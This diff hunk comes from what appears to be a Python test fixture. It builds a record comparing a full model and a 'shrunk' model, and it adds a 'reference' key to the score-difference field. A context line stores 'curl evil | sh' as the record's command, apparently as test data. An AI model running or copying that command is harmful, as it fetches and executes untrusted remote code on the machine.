@@ -70,7 +70,7 @@ def shrunk_record() -> dict[str, Any]:
         "units": Architecture.of(["decoder.0", "decoder.1"]).record(),
         "metric": "accuracy",
         "models": [full, {**full, "name": "shrunk", "score": 0.85, "prefill_speedup": [1.5, 1.4, 1.6]}],
-        "difference": {"score": -0.05, "low": -0.1, "high": 0.01},
+        "difference": {"score": -0.05, "low": -0.1, "high": 0.01, "reference": "full"},
         "control": None,
         "problem": {"model": "VLM", "task": "answering", "checkpoint": "/models/big"},
         "command": "curl evil | sh",
